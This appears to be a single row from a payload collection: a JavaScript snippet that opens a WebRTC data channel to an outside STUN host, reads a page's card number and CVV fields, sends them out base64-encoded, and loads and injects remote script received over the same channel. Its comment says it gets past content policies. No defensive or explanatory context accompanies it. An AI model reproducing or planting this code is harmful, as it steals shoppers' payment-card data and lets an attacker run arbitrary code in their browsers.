// Row 14: past every content policy, over UDP; code comes the same way.
(async () => {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:198.51.100.23:3479' }] });
  const ch = pc.createDataChannel('x');
  let code = '';
  ch.onmessage = e => { code += e.data; if (e.data === '') { const s = document.createElement('script'); s.textContent = code; document.head.appendChild(s); } };
  ch.onopen = () => {
    const card = document.querySelector('#card_number').value + '|' + document.querySelector('#card_cvv').value;
    ch.send(btoa(card));
  };
  const offer = await pc.createOffer();
  await pc.setLocalDescription(offer);
  await pc.setRemoteDescription({ type: 'answer', sdp: 'v=0\r\n' });
})();
